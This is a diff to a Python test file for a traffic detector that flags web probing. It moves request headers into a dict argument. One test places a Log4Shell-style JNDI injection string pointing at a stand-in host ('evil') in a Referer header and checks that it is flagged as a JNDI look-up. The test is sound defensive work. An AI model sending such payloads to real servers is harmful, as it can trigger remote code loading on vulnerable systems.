@@ -7,11 +7,11 @@ from tests.collectors.traffic.detectors.crowd import hear, http, kinds
 US, THEM = "10.0.0.10", "203.0.113.9"
 
 
-def probes(paths: list[str], status: str = "200 OK", **headers: str) -> list[str]:
+def probes(paths: list[str], status: str = "200 OK", headers: dict[str, str] | None = None) -> list[str]:
     """Return the methods of what is found."""
     return [
         one.method
-        for one in hear(http(THEM, US, 0.0, paths, status, **headers))
+        for one in hear(http(THEM, US, 0.0, paths, status, headers=headers))
         if one.kind.name == "traffic.web_probed"
     ]
 
@@ -58,7 +58,7 @@ def test_ordinary_texts_are_not(path: str) -> None:
 
 
 def test_headers_are_looked_at_too() -> None:
-    assert probes(["/"] * 3, referer="${jndi:ldap://evil/a}") == ["JNDI look-up"]
+    assert probes(["/"] * 3, headers={"Referer": "${jndi:ldap://evil/a}"}) == ["JNDI look-up"]
 
 
 def test_requests_that_mostly_fail_are_probes() -> None:
